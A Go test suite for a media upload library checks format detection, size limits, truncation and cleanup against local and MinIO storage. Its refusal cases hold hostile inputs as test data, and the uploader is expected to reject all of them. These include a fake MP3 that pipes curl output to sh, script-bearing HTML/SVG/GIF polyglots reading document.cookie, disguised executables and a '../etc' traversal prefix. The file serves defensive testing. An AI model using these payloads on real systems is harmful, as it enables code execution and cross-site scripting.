package media_test

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"
	"testing/iotest"
	"time"

	"polyphony/content/media"
	"polyphony/content/media/mediatest"
)

// forEachStore runs fn against a fresh local store and a fresh MinIO
// bucket, in parallel subtests.
func forEachStore(t *testing.T, fn func(t *testing.T, s media.Store)) {
	t.Helper()
	t.Run("Local", func(t *testing.T) {
		t.Parallel()
		fn(t, newLocal(t).store)
	})
	t.Run("MinIO", func(t *testing.T) {
		t.Parallel()
		fn(t, newMinIO(t))
	})
}

// incompleteRemover is implemented by both stores.
type incompleteRemover interface {
	RemoveIncomplete(ctx context.Context, prefix string, before time.Time) (int, error)
}

// assertNothingStored fails t if s holds any object under prefix, or any
// unfinished write (a local temporary file, a MinIO multipart upload).
func assertNothingStored(t *testing.T, s media.Store, prefix string) {
	t.Helper()
	for info, err := range s.(media.Lister).List(t.Context(), prefix) {
		if err != nil {
			t.Fatalf("List: %v", err)
		}
		t.Errorf("object left behind: %q (%d bytes)", info.Key, info.Size)
	}
	n, err := s.(incompleteRemover).RemoveIncomplete(t.Context(), prefix, time.Now().Add(time.Hour))
	if err != nil {
		t.Fatalf("RemoveIncomplete: %v", err)
	}
	if n != 0 {
		t.Errorf("%d unfinished writes left behind", n)
	}
}

// assertEmptyDir fails t if dir holds any file (a leftover spool file).
func assertEmptyDir(t *testing.T, dir string) {
	t.Helper()
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		t.Errorf("temporary file left behind: %s", filepath.Join(dir, e.Name()))
	}
}

// countingReader counts the bytes read from it.
type countingReader struct {
	r io.Reader
	n atomic.Int64
}

func (c *countingReader) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n.Add(int64(n))
	return n, err
}

func readTestdata(t testing.TB, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func getObject(t *testing.T, s media.Store, key string) []byte {
	t.Helper()
	rc, _, err := s.Get(t.Context(), key)
	if err != nil {
		t.Fatalf("Get(%q): %v", key, err)
	}
	defer rc.Close()
	b, err := io.ReadAll(rc)
	if err != nil {
		t.Fatalf("Get(%q): %v", key, err)
	}
	return b
}

var keyPattern = regexp.MustCompile(`^journal/[0-9]{4}/[0-9a-f]{32}\.([a-z0-9]+)$`)

type acceptCase struct {
	name string
	data []byte
	kind media.Kind
	mime string
	ext  string
}

func acceptCases(t *testing.T) []acceptCase {
	return []acceptCase{
		{"JPEG", jpegWithMetadata(t, 6), media.KindImage, "image/jpeg", "jpg"},
		{"JPEGFromFFmpeg", readTestdata(t, "image-ffmpeg.jpg"), media.KindImage, "image/jpeg", "jpg"},
		{"PNG", pngWithMetadata(t), media.KindImage, "image/png", "png"},
		{"GIF", gifWithMetadata(t, secretComment), media.KindImage, "image/gif", "gif"},
		{"WebPExtended", webpWithMetadata(), media.KindImage, "image/webp", "webp"},
		{"WebPLossy", readTestdata(t, "image-lossy.webp"), media.KindImage, "image/webp", "webp"},
		{"WebPLossless", readTestdata(t, "image-lossless.webp"), media.KindImage, "image/webp", "webp"},
		{"WebPAnimated", readTestdata(t, "image-animated.webp"), media.KindImage, "image/webp", "webp"},
		{"MP3", readTestdata(t, "recording.mp3"), media.KindAudio, "audio/mpeg", "mp3"},
		{"MP3WithoutTag", mp3Frames(30, 0), media.KindAudio, "audio/mpeg", "mp3"},
		{"MP3TagBeyondHead", mp3Frames(30, 100<<10), media.KindAudio, "audio/mpeg", "mp3"},
		{"WAV", readTestdata(t, "recording.wav"), media.KindAudio, "audio/wav", "wav"},
		{"OggOpus", readTestdata(t, "recording-opus.ogg"), media.KindAudio, "audio/ogg", "opus"},
		{"OggOpusLong", oggFile(opusHead, 150_000), media.KindAudio, "audio/ogg", "opus"},
		{"OggVorbis", readTestdata(t, "recording-vorbis.ogg"), media.KindAudio, "audio/ogg", "ogg"},
		{"WebMOpusRecording", readTestdata(t, "recording-opus.webm"), media.KindAudio, "audio/webm", "webm"},
		{"WebMLiveAudio", webmFile("webm", 100_000, 2), media.KindAudio, "audio/webm", "webm"},
		{"WebMVideo", readTestdata(t, "clip-vp8.webm"), media.KindVideo, "video/webm", "webm"},
		{"WebMLiveVideo", webmFile("webm", 100_000, 1, 2), media.KindVideo, "video/webm", "webm"},
		{"MP4AACRecording", readTestdata(t, "recording-aac.mp4"), media.KindAudio, "audio/mp4", "m4a"},
		{"MP4SoundTrack", mp4File(mp4Head("iso5", "soun"), 100_000), media.KindAudio, "audio/mp4", "m4a"},
		{"M4ABrand", mp4File(isoBox("ftyp", []byte("M4A \x00\x00\x00\x00M4A isom")), 100_000), media.KindAudio, "audio/mp4", "m4a"},
		{"MP4FastStart", readTestdata(t, "clip-faststart.mp4"), media.KindVideo, "video/mp4", "mp4"},
		{"MP4MovieAtEnd", readTestdata(t, "clip-moov-at-end.mp4"), media.KindVideo, "video/mp4", "mp4"},
		{"MP4VideoTrack", mp4File(mp4Head("isom", "vide", "soun"), 100_000), media.KindVideo, "video/mp4", "mp4"},
		{"QuickTime", readTestdata(t, "clip.mov"), media.KindVideo, "video/quicktime", "mov"},
	}
}

func TestUploadAccepts(t *testing.T) {
	cases := acceptCases(t)
	forEachStore(t, func(t *testing.T, s media.Store) {
		for _, tc := range cases {
			t.Run(tc.name, func(t *testing.T) {
				spool := t.TempDir()
				up, err := media.Upload(t.Context(), s, bytes.NewReader(tc.data), int64(len(tc.data)), media.UploadOptions{TempDir: spool})
				if err != nil {
					t.Fatalf("Upload: %v", err)
				}
				m := keyPattern.FindStringSubmatch(up.Key)
				if m == nil || m[1] != tc.ext {
					t.Errorf("key %q, want journal/<year>/<32 hex>.%s", up.Key, tc.ext)
				}
				if up.Kind != tc.kind || up.ContentType != tc.mime {
					t.Errorf("detected %s %q, want %s %q", up.Kind, up.ContentType, tc.kind, tc.mime)
				}
				if up.Received != int64(len(tc.data)) {
					t.Errorf("Received = %d, want %d", up.Received, len(tc.data))
				}
				info, err := s.Stat(t.Context(), up.Key)
				if err != nil {
					t.Fatalf("Stat: %v", err)
				}
				if info.Size != up.Size || info.ContentType != tc.mime {
					t.Errorf("stored %d bytes of %q, Upload reported %d bytes of %q", info.Size, info.ContentType, up.Size, up.ContentType)
				}
				got := getObject(t, s, up.Key)
				// Audio and video are stored as sent, except that a live WebM recording gains
				// a Duration in its Info (see TestUploadWritesWebMDuration).
				if tc.kind != media.KindImage && tc.name != "WebMLiveAudio" && !bytes.Equal(got, tc.data) {
					t.Errorf("stored %d bytes differ from the %d uploaded", len(got), len(tc.data))
				}
				assertEmptyDir(t, spool)
			})
		}
	})
}

func TestUploadUnknownSize(t *testing.T) {
	cases := []acceptCase{
		{"JPEG", jpegWithMetadata(t, 0), media.KindImage, "image/jpeg", "jpg"},
		{"WebM", webmFile("webm", 200_000, 1), media.KindVideo, "video/webm", "webm"},
		{"ShortMP3", mp3Frames(2, 0), media.KindAudio, "audio/mpeg", "mp3"},
	}
	forEachStore(t, func(t *testing.T, s media.Store) {
		for _, tc := range cases {
			t.Run(tc.name, func(t *testing.T) {
				up, err := media.Upload(t.Context(), s, bytes.NewReader(tc.data), -1, media.UploadOptions{})
				if err != nil {
					t.Fatalf("Upload: %v", err)
				}
				if up.ContentType != tc.mime || up.Received != int64(len(tc.data)) {
					t.Errorf("got %q after %d bytes, want %q after %d", up.ContentType, up.Received, tc.mime, len(tc.data))
				}
				if got := getObject(t, s, up.Key); tc.kind != media.KindImage && !bytes.Equal(got, tc.data) {
					t.Errorf("stored bytes differ from those uploaded")
				}
			})
		}
	})
}

// TestUploadOneByteReads sends uploads one byte per read, so that every
// header, chunk and probe straddles reads.
func TestUploadOneByteReads(t *testing.T) {
	s := newLocal(t).store
	for _, tc := range acceptCases(t) {
		t.Run(tc.name, func(t *testing.T) {
			up, err := media.Upload(t.Context(), s, iotest.OneByteReader(bytes.NewReader(tc.data)), int64(len(tc.data)), media.UploadOptions{})
			if err != nil {
				t.Fatalf("Upload: %v", err)
			}
			if up.ContentType != tc.mime {
				t.Errorf("detected %q, want %q", up.ContentType, tc.mime)
			}
		})
	}
	junk := append(mp3Frames(0, 100<<10), filler(20_000, 4)...)
	if _, err := media.Upload(t.Context(), s, iotest.OneByteReader(bytes.NewReader(junk)), int64(len(junk)), media.UploadOptions{}); !errors.Is(err, media.ErrMalformed) {
		t.Errorf("ID3 tag then junk, one byte at a time: err = %v, want ErrMalformed", err)
	}
}

func TestUploadKeysAreFresh(t *testing.T) {
	s := newLocal(t).store
	data := mp3Frames(5, 0)
	when := time.Date(2031, 5, 6, 7, 8, 9, 0, time.UTC)
	seen := map[string]bool{}
	for range 20 {
		up, err := media.Upload(t.Context(), s, bytes.NewReader(data), int64(len(data)), media.UploadOptions{Prefix: "journal/u1", Now: when})
		if err != nil {
			t.Fatal(err)
		}
		if !strings.HasPrefix(up.Key, "journal/u1/2031/") || seen[up.Key] {
			t.Fatalf("key %q: want a new key under journal/u1/2031/", up.Key)
		}
		seen[up.Key] = true
	}
	if _, err := media.Upload(t.Context(), s, bytes.NewReader(data), int64(len(data)), media.UploadOptions{Prefix: "../etc"}); !errors.Is(err, media.ErrInvalidKey) {
		t.Errorf("prefix ../etc: err = %v, want ErrInvalidKey", err)
	}
}

func TestUploadProgress(t *testing.T) {
	data := webmFile("webm", 300_000, 2)
	forEachStore(t, func(t *testing.T, s media.Store) {
		var calls, last atomic.Int64
		var backwards atomic.Bool
		opts := media.UploadOptions{Progress: func(n int64) {
			calls.Add(1)
			if n < last.Swap(n) {
				backwards.Store(true)
			}
		}}
		if _, err := media.Upload(t.Context(), s, bytes.NewReader(data), int64(len(data)), opts); err != nil {
			t.Fatal(err)
		}
		if calls.Load() < 2 || last.Load() != int64(len(data)) || backwards.Load() {
			t.Errorf("progress: %d calls, last %d, backwards %v; want several, ending at %d, never backwards",
				calls.Load(), last.Load(), backwards.Load(), len(data))
		}
	})
}

func TestUploadKindNotAllowed(t *testing.T) {
	s := newLocal(t).store
	video := webmFile("webm", 1000, 1)
	_, err := media.Upload(t.Context(), s, bytes.NewReader(video), int64(len(video)), media.UploadOptions{Allow: []media.Kind{media.KindAudio}})
	var te *media.TypeError
	if !errors.As(err, &te) || te.Detected != "video/webm" {
		t.Fatalf("video where only audio is allowed: err = %v, want a TypeError naming video/webm", err)
	}
	assertNothingStored(t, s, "journal/")
	audio := webmFile("webm", 1000, 2)
	if _, err := media.Upload(t.Context(), s, bytes.NewReader(audio), int64(len(audio)), media.UploadOptions{Allow: []media.Kind{media.KindAudio}}); err != nil {
		t.Fatalf("audio where audio is allowed: %v", err)
	}
}

// refusal is an upload that must fail with an error wrapping want whose
// message contains text.
type refusal struct {
	name string
	data []byte
	want error
	text string
}

func refusals(t *testing.T) []refusal {
	elf := append([]byte("\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x3e\x00"), filler(5000, 1)...)
	pe := append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"), filler(5000, 2)...)
	macho := append([]byte("\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00"), filler(5000, 3)...)
	gifJS := []byte("GIF89a/*\x0a\x00\x00\x00\x00*/=alert(document.domain);//\x3b")
	mp3Junk := append(mp3Frames(0, 100<<10), filler(20_000, 4)...)
	badOgg := oggFile(opusHead, 10_000)
	badOgg[40] ^= 1
	truncatedGIF := gifWithMetadata(t, "x")
	truncatedGIF = truncatedGIF[:len(truncatedGIF)-20]
	return []refusal{
		{"Empty", nil, media.ErrTypeNotAllowed, "empty file"},
		{"RenamedELF", elf, media.ErrTypeNotAllowed, "ELF executable"},
		{"RenamedPE", pe, media.ErrTypeNotAllowed, "Windows executable"},
		{"RenamedMachO", macho, media.ErrTypeNotAllowed, "Mach-O executable"},
		{"ShellScriptNamedMP3", []byte("#!/bin/sh\ncurl https://example.invalid/x | sh\n"), media.ErrTypeNotAllowed, "script (#!)"},
		{"ZIP", zipArchive(t), media.ErrTypeNotAllowed, "ZIP archive"},
		{"PDF", []byte("%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n"), media.ErrTypeNotAllowed, "PDF document"},
		{"HTML", []byte("<!DOCTYPE html>\n<html><script>alert(1)</script></html>"), media.ErrTypeNotAllowed, "HTML document"},
		{"SVG", []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`), media.ErrTypeNotAllowed, "SVG image"},
		{"Text", []byte("notes from the session\n"), media.ErrTypeNotAllowed, "text file"},
		{"JPEGWithAppendedZIP", append(plainJPEG(t), zipArchive(t)...), media.ErrMalformed, "data follows the end of the image"},
		{"PNGWithZIPInChunk", pngZipPolyglot(t), media.ErrTypeNotAllowed, "ZIP archive hidden"},
		{"PNGWithAppendedHTML", append(plainPNG(t), "<html><script>alert(1)</script>"...), media.ErrTypeNotAllowed, "containing HTML"},
		{"GIFWithScriptComment", gifWithMetadata(t, "<script>alert(document.cookie)</script>"), media.ErrTypeNotAllowed, "image/gif containing HTML"},
		{"GIFHeaderThenHTML", []byte("GIF89a<html><body onload=alert(1)>"), media.ErrTypeNotAllowed, "containing HTML"},
		{"GIFJavaScriptPolyglot", gifJS, media.ErrMalformed, "image/gif"},
		{"GIFTruncated", truncatedGIF, media.ErrTruncated, "ends before its end marker"},
		{"MP4WithAppendedZIP", append(mp4File(mp4Head("isom", "vide"), 100_000), zipArchive(t)...), media.ErrTypeNotAllowed, "ZIP archive hidden"},
		{"WebMWithAppendedZIP", append(webmFile("webm", 50_000, 2), zipArchive(t)...), media.ErrTypeNotAllowed, "ZIP archive hidden"},
		{"Matroska", readTestdata(t, "clip.mkv"), media.ErrTypeNotAllowed, "Matroska"},
		{"OggTheora", readTestdata(t, "clip-theora.ogv"), media.ErrTypeNotAllowed, "Theora"},
		{"OggTheoraBuilt", oggFile(theoraHead, 5000), media.ErrTypeNotAllowed, "Theora"},
		{"OggBadChecksum", badOgg, media.ErrMalformed, "first page"},
		{"HEIC", isoBox("ftyp", []byte("heic\x00\x00\x00\x00mif1heic")), media.ErrTypeNotAllowed, "HEIC image"},
		{"MP4ThenHTML", append(isoBox("ftyp", []byte("isom\x00\x00\x00\x00isom")), "\x00\x00\x01\x00<html>"...), media.ErrTypeNotAllowed, "video/mp4 containing HTML"},
		{"MP4BadBox", append(isoBox("ftyp", []byte("isom\x00\x00\x00\x00isom")), "\x00\x00\x00\x10\x01\x02\x03\x04"...), media.ErrMalformed, "invalid box type"},
		{"MP3FalseSync", append([]byte{0xff, 0xfb, 0x90, 0x64}, filler(5000, 5)...), media.ErrMalformed, "does not follow"},
		{"MP3TagThenJunk", mp3Junk, media.ErrMalformed, "no MPEG audio frame after the ID3 tag"},
		{"WAVCompressed", riff("WAVE", riffChunk("fmt ", []byte{0x55, 0, 1, 0, 0x44, 0xac, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0}), riffChunk("data", filler(100, 1))), media.ErrTypeNotAllowed, "WAVE audio"},
	}
}

func TestUploadRefuses(t *testing.T) {
	cases := refusals(t)
	forEachStore(t, func(t *testing.T, s media.Store) {
		for _, tc := range cases {
			t.Run(tc.name, func(t *testing.T) {
				spool := t.TempDir()
				_, err := media.Upload(t.Context(), s, bytes.NewReader(tc.data), int64(len(tc.data)), media.UploadOptions{TempDir: spool})
				if !errors.Is(err, tc.want) || !strings.Contains(err.Error(), tc.text) {
					t.Errorf("err = %v; want %v mentioning %q", err, tc.want, tc.text)
				}
				assertNothingStored(t, s, "journal/")
				assertEmptyDir(t, spool)
			})
		}
	})
}

// noFF replaces 0xff bytes, so that a JPEG scan fed from it never meets a
// marker.
type noFF struct{ r io.Reader }

func (n noFF) Read(p []byte) (int, error) {
	k, err := n.r.Read(p)
	for i, c := range p[:k] {
		if c == 0xff {
			p[i] = 0xfe
		}
	}
	return k, err
}

func TestUploadTooLarge(t *testing.T) {
	limits := media.Limits{Image: 100_000, Audio: 200_000, Video: 300_000}
	const huge = 50 << 20
	videoHead := webmFile("webm", 0, 1)
	// A JPEG cut off in its scan data, which then never ends.
	jpegHead := bytes.TrimRight(plainJPEG(t)[:1000], "\xff")
	endless := func(head []byte) func() io.Reader {
		return func() io.Reader {
			return io.MultiReader(bytes.NewReader(head), noFF{mediatest.NewPattern(huge, 1)})
		}
	}
	cases := []struct {
		name     string
		src      func() io.Reader
		declared int64
		want     error
		maxRead  int64
		kind     media.Kind
		limit    int64
	}{
		{"DeclaredOverEveryLimit", endless(videoHead), huge, media.ErrTooLarge, 0, "", 300_000},
		{"DeclaredOverImageLimit", endless(jpegHead), 250_000, media.ErrTooLarge, 64 << 10, media.KindImage, 100_000},
		{"VideoUnknownSize", endless(videoHead), -1, media.ErrTooLarge, 300_001, media.KindVideo, 300_000},
		{"ImageUnknownSize", endless(jpegHead), -1, media.ErrTooLarge, 100_001, media.KindImage, 100_000},
		{"LongerThanDeclared", endless(videoHead), 150_000, media.ErrSizeMismatch, 150_001, "", 0},
	}
	forEachStore(t, func(t *testing.T, s media.Store) {
		for _, tc := range cases {
			t.Run(tc.name, func(t *testing.T) {
				src := &countingReader{r: tc.src()}
				_, err := media.Upload(t.Context(), s, src, tc.declared, media.UploadOptions{Limits: limits})
				if !errors.Is(err, tc.want) {
					t.Fatalf("err = %v, want %v", err, tc.want)
				}
				if got := src.n.Load(); got > tc.maxRead {
					t.Errorf("read %d bytes of the upload, want at most %d", got, tc.maxRead)
				}
				var tl *media.TooLargeError
				if errors.As(err, &tl) && (tl.Kind != tc.kind || tl.Limit != tc.limit) {
					t.Errorf("TooLargeError{Kind: %q, Limit: %d}, want {%q, %d}", tl.Kind, tl.Limit, tc.kind, tc.limit)
				}
				assertNothingStored(t, s, "journal/")
			})
		}
	})
}

// droppingReader yields n bytes of r and then fails as a server's request
// body does when the client goes away.
type droppingReader struct {
	r io.Reader
	n int64
}

func (d *droppingReader) Read(p []byte) (int, error) {
	if d.n <= 0 {
		return 0, io.ErrUnexpectedEOF
	}
	if int64(len(p)) > d.n {
		p = p[:d.n]
	}
	n, err := d.r.Read(p)
	d.n -= int64(n)
	return n, err
}

func TestUploadTruncated(t *testing.T) {
	video := webmFile("webm", 400_000, 1, 2)
	img := jpegWithMetadata(t, 0)
	cases := []struct {
		name     string
		r        func() io.Reader
		declared int64
	}{
		{"VideoShorterThanDeclared", func() io.Reader { return bytes.NewReader(video[:200_000]) }, int64(len(video))},
		{"VideoConnectionDropped", func() io.Reader { return &droppingReader{r: bytes.NewReader(video), n: 200_000} }, int64(len(video))},
		{"VideoDroppedUnknownSize", func() io.Reader { return &droppingReader{r: bytes.NewReader(video), n: 200_000} }, -1},
		{"ImageShorterThanDeclared", func() io.Reader { return bytes.NewReader(img[:len(img)/2]) }, int64(len(img))},
		{"ImageCutButComplete", func() io.Reader { return bytes.NewReader(img[:len(img)/2]) }, int64(len(img) / 2)},
		{"ImageDroppedUnknownSize", func() io.Reader { return &droppingReader{r: bytes.NewReader(img), n: int64(len(img) - 10)} }, -1},
	}
	forEachStore(t, func(t *testing.T, s media.Store) {
		for _, tc := range cases {
			t.Run(tc.name, func(t *testing.T) {
				_, err := media.Upload(t.Context(), s, tc.r(), tc.declared, media.UploadOptions{})
				if !errors.Is(err, media.ErrTruncated) {
					t.Fatalf("err = %v, want ErrTruncated", err)
				}
				assertNothingStored(t, s, "journal/")
			})
		}
	})
}

// cancellingReader cancels its context once n bytes have been read.
type cancellingReader struct {
	r      io.Reader
	n      int64
	cancel context.CancelFunc
}

func (c *cancellingReader) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	if c.n -= int64(n); c.n <= 0 {
		c.cancel()
	}
	return n, err
}

func TestUploadCancelled(t *testing.T) {
	video := webmFile("webm", 2<<20, 1)
	img := pngWithMetadata(t)
	forEachStore(t, func(t *testing.T, s media.Store) {
		for name, data := range map[string][]byte{"Video": video, "Image": img} {
			t.Run(name, func(t *testing.T) {
				ctx, cancel := context.WithCancel(t.Context())
				defer cancel()
				r := &cancellingReader{r: bytes.NewReader(data), n: int64(len(data)) / 2, cancel: cancel}
				_, err := media.Upload(ctx, s, r, int64(len(data)), media.UploadOptions{})
				if !errors.Is(err, context.Canceled) {
					t.Fatalf("err = %v, want context.Canceled", err)
				}
				assertNothingStored(t, s, "journal/")
			})
		}
	})
}

// TestUploadMultipartAborted fails uploads after several parts have gone
// to MinIO and checks that the parts are discarded.
func TestUploadMultipartAborted(t *testing.T) {
	cfg := minioConfig(t)
	cfg.PartSize = 5 << 20
	s, err := media.NewMinIO(t.Context(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	const size = 12 << 20
	head := mp4Head("isom", "vide")
	head = binary.BigEndian.AppendUint32(head, uint32(size-len(head)))
	head = append(head, "mdat"...)
	body := func(n int64) io.Reader {
		return io.MultiReader(bytes.NewReader(head), mediatest.NewPattern(n-int64(len(head)), 2))
	}
	t.Run("Truncated", func(t *testing.T) {
		_, err := media.Upload(t.Context(), s, body(11<<20), size, media.UploadOptions{})
		if !errors.Is(err, media.ErrTruncated) {
			t.Fatalf("err = %v, want ErrTruncated", err)
		}
		assertNothingStored(t, s, "journal/")
	})
	t.Run("TooLargeUnknownSize", func(t *testing.T) {
		_, err := media.Upload(t.Context(), s, body(size), -1, media.UploadOptions{Limits: media.Limits{Video: 11 << 20}})
		if !errors.Is(err, media.ErrTooLarge) {
			t.Fatalf("err = %v, want ErrTooLarge", err)
		}
		assertNothingStored(t, s, "journal/")
	})
	t.Run("Complete", func(t *testing.T) {
		up, err := media.Upload(t.Context(), s, body(size), size, media.UploadOptions{})
		if err != nil {
			t.Fatal(err)
		}
		if info, err := s.Stat(t.Context(), up.Key); err != nil || info.Size != size {
			t.Fatalf("Stat = %+v, %v; want %d bytes", info, err, size)
		}
	})
}
